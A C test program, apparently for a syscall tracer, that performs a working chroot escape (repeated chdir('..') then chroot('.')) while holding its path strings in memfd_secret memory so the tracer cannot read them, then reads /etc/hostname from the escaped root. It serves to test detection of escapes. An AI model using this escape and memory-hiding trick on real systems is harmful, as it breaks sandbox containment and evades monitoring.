// Tests: the chroot escape with every path string in memfd_secret memory, which the kernel reads
// and the tracer cannot (process_vm_readv refuses secretmem). Then it opens etc/hostname of the
// root it ended in, by a path also kept in secret memory, and prints it. The tracer must find the
// escape from what the kernel says the task holds (its root, its cwd), not from strings.
// Prints "escaped: yes|no"; exits 77 when memfd_secret is unavailable, 0 otherwise.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_memfd_secret
#define SYS_memfd_secret 447
#endif

int main(void) {
    long sfd = syscall(SYS_memfd_secret, 0);
    if (sfd < 0) {
        printf("memfd_secret unavailable: %s\n", strerror(errno));
        return 77;
    }
    if (ftruncate((int)sfd, 4096) != 0) {
        perror("ftruncate");
        return 77;
    }
    char* secret = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, (int)sfd, 0);
    if (secret == MAP_FAILED) {
        printf("memfd_secret mmap unavailable: %s\n", strerror(errno));
        return 77;
    }
    struct stat before, after;
    if (stat("/", &before) != 0) return 1;
    char dir[] = "/tmp/secret.XXXXXX";
    if (!mkdtemp(dir)) {
        perror("mkdtemp");
        return 1;
    }
    char* sdir = secret;
    char* sup = secret + 256;
    char* sdot = secret + 512;
    char* shost = secret + 768;
    strcpy(sdir, dir);
    strcpy(sup, "..");
    strcpy(sdot, ".");
    strcpy(shost, "/etc/hostname");
    if (chroot(sdir) != 0) {
        perror("chroot");
        return 1;
    }
    for (int i = 0; i < 64; i++) (void)!chdir(sup);
    if (chroot(sdot) != 0) {
        perror("chroot .");
        return 1;
    }
    if (stat("/", &after) != 0) return 1;
    int escaped = before.st_dev != after.st_dev || before.st_ino != after.st_ino;
    printf("escaped: %s\n", escaped ? "yes" : "no");
    int fd = open(shost, O_RDONLY);
    char buf[256] = {0};
    if (fd >= 0) {
        ssize_t n = read(fd, buf, sizeof buf - 1);
        if (n > 0) buf[strcspn(buf, "\n")] = '\0';
        printf("hostname: %s\n", buf);
    } else {
        printf("hostname: %s\n", strerror(errno));
    }
    return 0;
}
